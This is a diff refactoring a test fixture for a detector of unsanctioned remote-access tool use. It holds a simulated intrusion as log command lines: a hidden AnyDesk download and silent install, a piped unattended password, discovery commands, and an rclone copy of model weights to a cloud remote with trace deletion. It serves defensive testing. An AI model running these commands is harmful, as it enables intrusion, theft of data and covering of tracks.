@@ -15,57 +15,71 @@ from detector.model.report import Input, Report, Run, Stats
 from detector.model.rule import Action, Phase
 
 START = datetime(2025, 10, 14, 22, 41, 7, tzinfo=UTC)
+DAY = timedelta(days=1)
 OUTSIDE = Decision(Verdict.UNSANCTIONED, "anydesk-labs", "anydesk-labs does not cover it: host DESK-212 is not covered")
 MOVED = Decision(Verdict.UNSANCTIONED, None, "no clause expects rdp from DESK-212 to VAULT1 by m.okafor")
 
 
 def finding(
-    number: int, minutes: float, host: str, title: str, level: Level, phase: Phase | None, fields: dict[str, str], *,
-    user: str = "NORTHLAB\\m.okafor", tool: str | None = "anydesk", action: Action | None = None, asset: str | None = None,
-    decision: Decision = OUTSIDE, count: int = 1, channel: str = "Microsoft-Windows-Sysmon/Operational", event_id: int = 1,
-) -> Finding:  # fmt: skip
+    number: int,
+    minutes: float,
+    host: str,
+    rule: tuple[str, Level, Phase],
+    fields: dict[str, str],
+    *,
+    user: str = "NORTHLAB\\m.okafor",
+    tool: str | None = "anydesk",
+    action: Action | None = None,
+    asset: str | None = None,
+    decision: Decision = OUTSIDE,
+    count: int = 1,
+    channel: str = "Microsoft-Windows-Sysmon/Operational",
+    event_id: int = 1,
+) -> Finding:
     """One finding ``minutes`` after the start."""
     time = START + timedelta(minutes=minutes)
     provider = "Microsoft-Windows-Security-Auditing" if channel == "Security" else "Microsoft-Windows-Sysmon"
     ref = EventRef(f"logs/{host}/Sysmon.evtx", host, channel, provider, event_id, 88_000 + number, time)
-    rule = RuleRef(f"5d3c1f0a-0000-4000-8000-{number:012d}", title, level)
+    title, level, phase = rule
+    quoted = RuleRef(f"5d3c1f0a-0000-4000-8000-{number:012d}", title, level)
     return Finding(
-        f"f-{number:012x}", rule, tool, phase, action, host, user, time, (ref,), fields, asset, decision, count
+        f"f-{number:012x}", quoted, tool, phase, action, host, user, time, (ref,), fields, asset, decision, count
     )
 
 
 FINDINGS = (
-    finding(1, 0, "DESK-212", "AnyDesk downloaded by a browser or script", Level.MEDIUM, Phase.ARRIVAL,
+    finding(1, 0, "DESK-212", ("AnyDesk downloaded by a browser or script", Level.MEDIUM, Phase.ARRIVAL),
             {"CommandLine": "powershell -w hidden iwr https://download.anydesk.com/AnyDesk.exe -o C:\\Users\\Public\\ad.exe"}),
-    finding(2, 1.4, "DESK-212", "AnyDesk installed silently", Level.HIGH, Phase.INSTALL,
+    finding(2, 1.4, "DESK-212", ("AnyDesk installed silently", Level.HIGH, Phase.INSTALL),
             {"CommandLine": '"C:\\Users\\Public\\ad.exe" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
              "Image": "C:\\Users\\Public\\ad.exe"}, action=Action.INSTALL),
-    finding(3, 1.6, "DESK-212", "AnyDesk installed as a service", Level.MEDIUM, Phase.INSTALL,
+    finding(3, 1.6, "DESK-212", ("AnyDesk installed as a service", Level.MEDIUM, Phase.INSTALL),
             {"ImagePath": '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service', "ServiceName": "AnyDesk Service"},
             action=Action.INSTALL, user="", channel="System", event_id=7045),
-    finding(4, 2.1, "DESK-212", "AnyDesk password for unattended access set from a pipe", Level.HIGH,
-            Phase.UNATTENDED_ACCESS, {"CommandLine": 'cmd.exe /c echo Winter2025! | "C:\\ProgramData\\AnyDesk\\AnyDesk.exe"'
+    finding(4, 2.1, "DESK-212", ("AnyDesk password for unattended access set from a pipe", Level.HIGH,
+            Phase.UNATTENDED_ACCESS), {"CommandLine": 'cmd.exe /c echo Winter2025! | "C:\\ProgramData\\AnyDesk\\AnyDesk.exe"'
             " --set-password"}, action=Action.INSTALL),
-    finding(5, 3, "DESK-212", "AnyDesk connects to its relay", Level.LOW, Phase.SESSION,
+    finding(5, 3, "DESK-212", ("AnyDesk connects to its relay", Level.LOW, Phase.SESSION),
             {"QueryName": "relay-5f2c9b1a.net.anydesk.com"}, action=Action.CONNECT, count=214, event_id=22),
     *(
-        finding(10 + n, 31 + n, "DESK-212", "Shell under AnyDesk", Level.HIGH, Phase.COMMAND,
+        finding(10 + n, 31 + n, "DESK-212", ("Shell under AnyDesk", Level.HIGH, Phase.COMMAND),
                 {"CommandLine": f"cmd.exe /c {line}"}, action=Action.COMMAND)
         for n, line in enumerate(("whoami /all", "nltest /dclist:northlab", "net view \\\\VAULT1", "ipconfig /all",
                                   "dir \\\\VAULT1\\weights$", "quser /server:VAULT1"))
     ),
-    finding(30, 52, "VAULT1", "Remote desktop logon", Level.LOW, Phase.MOVEMENT,
+    finding(30, 52, "VAULT1", ("Remote desktop logon", Level.LOW, Phase.MOVEMENT),
             {"TargetUserName": "m.okafor", "IpAddress": "192.0.2.112", "LogonType": "10"}, tool=None, asset="VAULT1",
             decision=MOVED, user="m.okafor", channel="Security", event_id=4624),
-    finding(31, 55, "VAULT1", "Files of a share read", Level.LOW, Phase.COLLECTION,
+    finding(31, 55, "VAULT1", ("Files of a share read", Level.LOW, Phase.COLLECTION),
             {"ShareName": "\\\\*\\weights$", "RelativeTargetName": "gen4\\model-00007-of-00032.safetensors",
              "IpAddress": "192.0.2.112"}, tool=None, asset="VAULT1", decision=MOVED, user="m.okafor", count=32,
             channel="Security", event_id=5145),
-    finding(32, 84, "DESK-212", "rclone copies to a cloud remote", Level.HIGH, Phase.EXFILTRATION,
+    finding(32, 84, "DESK-212", ("rclone copies to a cloud remote", Level.HIGH, Phase.EXFILTRATION),
             {"CommandLine": "C:\\Users\\Public\\svhost.exe copy \\\\VAULT1\\weights$\\gen4 mega:b4 --transfers 24 --no-check-"
              "certificate --config C:\\Users\\Public\\r.conf"}, tool="rclone", action=Action.UPLOAD, asset="VAULT1",
-            decision=Decision(Verdict.UNSANCTIONED, "rclone-backup", "rclone-backup does not cover it: host DESK-212 is not covered")),
-    finding(33, 1640, "DESK-212", "AnyDesk trace deleted", Level.HIGH, Phase.COVER_UP,
+            decision=Decision(Verdict.UNSANCTIONED, "rclone-backup",
+                              "rclone-backup does not cover it: host DESK-212 is not covered")),
+    finding(33, 1640, "DESK-212", ("AnyDesk trace deleted", Level.HIGH, Phase.COVER_UP),
             {"CommandLine": "cmd.exe /c del /f C:\\ProgramData\\AnyDesk\\ad_svc.trace"}),
 )  # fmt: skip
 
@@ -106,20 +120,20 @@ INCIDENT = Incident(
 )
 
 ALLOWED = (
-    finding(50, 400, "FRONT-01", "ScreenConnect session", Level.MEDIUM, Phase.SESSION, {"Data": "Connected: desk.ito"},
+    finding(50, 400, "FRONT-01", ("ScreenConnect session", Level.MEDIUM, Phase.SESSION), {"Data": "Connected: desk.ito"},
             tool="screenconnect", action=Action.SESSION, count=9, user="NORTHLAB\\desk.ito",
             decision=Decision(Verdict.ALLOWED, "sc-desk", "sc-desk covers it: hosts, tenant, operators, hours fit")),
-    finding(51, 420, "FRONT-02", "ScreenConnect session", Level.MEDIUM, Phase.SESSION, {"Data": "Connected: desk.ito"},
+    finding(51, 420, "FRONT-02", ("ScreenConnect session", Level.MEDIUM, Phase.SESSION), {"Data": "Connected: desk.ito"},
             tool="screenconnect", action=Action.SESSION, count=3, user="NORTHLAB\\desk.ito",
             decision=Decision(Verdict.ALLOWED, "sc-desk", "sc-desk covers it: hosts, tenant, operators, hours fit")),
-    finding(52, 700, "STORE-01", "rclone copies to a cloud remote", Level.MEDIUM, Phase.EXFILTRATION,
+    finding(52, 700, "STORE-01", ("rclone copies to a cloud remote", Level.MEDIUM, Phase.EXFILTRATION),
             {"CommandLine": "rclone copy E:\\exports glacier:"}, tool="rclone", action=Action.UPLOAD,
             user="NORTHLAB\\sa.copy",
             decision=Decision(Verdict.ALLOWED, "rclone-backup", "rclone-backup covers it: hosts, users, hours fit")),
 )  # fmt: skip
 
 UNDECIDED = finding(
-    60, 800, "STORE-02", "rclone copies to a cloud remote", Level.MEDIUM, Phase.EXFILTRATION,
+    60, 800, "STORE-02", ("rclone copies to a cloud remote", Level.MEDIUM, Phase.EXFILTRATION),
     {"CommandLine": "rclone sync"}, tool="rclone", user="", action=Action.UPLOAD,
     decision=Decision(Verdict.UNKNOWN, "rclone-backup", "rclone-backup would cover it, but no event shows users", ("users",)),
 )  # fmt: skip
@@ -133,8 +147,8 @@ LOSSES = (
 )
 
 INPUTS = (
-    Input("logs/DESK-212/Sysmon.evtx", "9f" * 32, 69_632, "evtx", 412_080, START - timedelta(days=9), START + timedelta(days=2)),
-    Input("logs/VAULT1/Security.evtx", "1c" * 32, 21_041_152, "evtx", 98_200, START - timedelta(days=3), START + timedelta(days=1)),
+    Input("logs/DESK-212/Sysmon.evtx", "9f" * 32, 69_632, "evtx", 412_080, START - 9 * DAY, START + 2 * DAY),
+    Input("logs/VAULT1/Security.evtx", "1c" * 32, 21_041_152, "evtx", 98_200, START - 3 * DAY, START + DAY),
     Input("logs/notes.txt", "00" * 32, 12, "ignored", 0, None, None),
 )  # fmt: skip
 
